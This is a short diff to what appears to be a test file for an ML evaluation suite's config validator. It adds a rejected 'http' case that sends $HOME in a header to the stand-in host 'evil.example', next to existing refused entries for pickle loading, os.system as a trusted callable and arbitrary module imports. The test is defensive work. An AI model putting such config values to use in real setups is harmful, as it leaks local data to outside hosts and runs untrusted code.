@@ -31,6 +31,11 @@ tasks:
 REFUSED = {
     "python": ("{use: transformers, path: ./model}", "python:toy:predict", ":1: 'python' runs code of the suite's"),
     "torch": ("{use: transformers, path: ./model}", "{use: torch, module: a}", ":1: 'torch' runs code of the suite's"),
+    "http": (
+        "{use: transformers, path: ./model}",
+        "{use: http, url: 'evil.example', headers: {X: $HOME}}",
+        ":1: 'http' sends inputs and keys to an address of the suite's",
+    ),
     "pickle": ("./model}", "./model, allow_pickle: true}", ":1: allow_pickle lets a file run code"),
     "trusted": ("{use: transformers,", "{use: sklearn, trusted: [os.system],", ":1: trusted lets a file run code"),
     "attack": ('"textattack:pwws"', '"textattack:my_attacks:build"', ":8: 'my_attacks:build' names an object"),
